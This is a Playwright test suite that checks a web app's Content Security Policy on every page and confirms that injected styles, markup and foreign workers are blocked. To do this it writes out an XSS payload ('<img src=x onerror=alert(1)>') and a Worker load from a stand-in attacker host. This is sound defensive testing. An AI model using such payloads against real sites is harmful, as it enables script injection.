import { expect, type Page, test } from '@playwright/test';
import { settle } from '../support/demo-pages.ts';
import { useDemoWar } from '../support/demo-war.ts';
import { signIn } from '../support/sign-in.ts';

const war = useDemoWar();

/** Collects Content-Security-Policy violations and console errors of every document of a page from now on. */
async function listen(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction('noteRefusal', (text: string) => refused.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { violatedDirective, blockedURI, sourceFile, lineNumber, sample } = event;
      const note = (globalThis as unknown as { noteRefusal(text: string): void }).noteRefusal;
      note(`${location.pathname}: ${violatedDirective} ${blockedURI} ${sourceFile}:${lineNumber} ${sample}`);
    });
  });
  page.on('console', (message) => {
    if (/content security policy|trusted ?type/i.test(message.text())) refused.push(message.text());
  });
  return refused;
}

test('no page, panel or dialog violates the content security policy', async ({ page }) => {
  test.setTimeout(400_000);
  const refused = await listen(page);
  await page.goto(`${war.address}/welcome`);
  await signIn(page, 'Admin');
  for (const { path } of war.pages) {
    await page.goto(war.address + path);
    await settle(page);
    expect(refused, path).toEqual([]);
  }
  // The second visit is served by the service worker, from its own copy of the page and its headers.
  await page.goto(`${war.address}/warehouses`);
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await page.reload();
  await settle(page);
  expect(refused).toEqual([]);
});

test('the policy is enforced: injected styles, markup and foreign workers are refused, and violations are detected here', async ({
  page,
}) => {
  const refused = await listen(page);
  await page.goto(`${war.address}/welcome`);
  await settle(page);
  await page.evaluate(() => {
    document.body.append(
      Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }),
    );
    document.body.setAttribute('style', 'color: red');
  });
  const markup = () =>
    page.evaluate(() => {
      document.body.innerHTML = '<img src=x onerror=alert(1)>';
    });
  await expect(markup()).rejects.toThrow(/Trusted/);
  const foreign = () => page.evaluate(() => new Worker('https://evil.example/worker.js'));
  await expect(foreign()).rejects.toThrow();
  await expect.poll(() => refused.filter((one) => one.includes('style-src')).length).toBeGreaterThan(1);
});
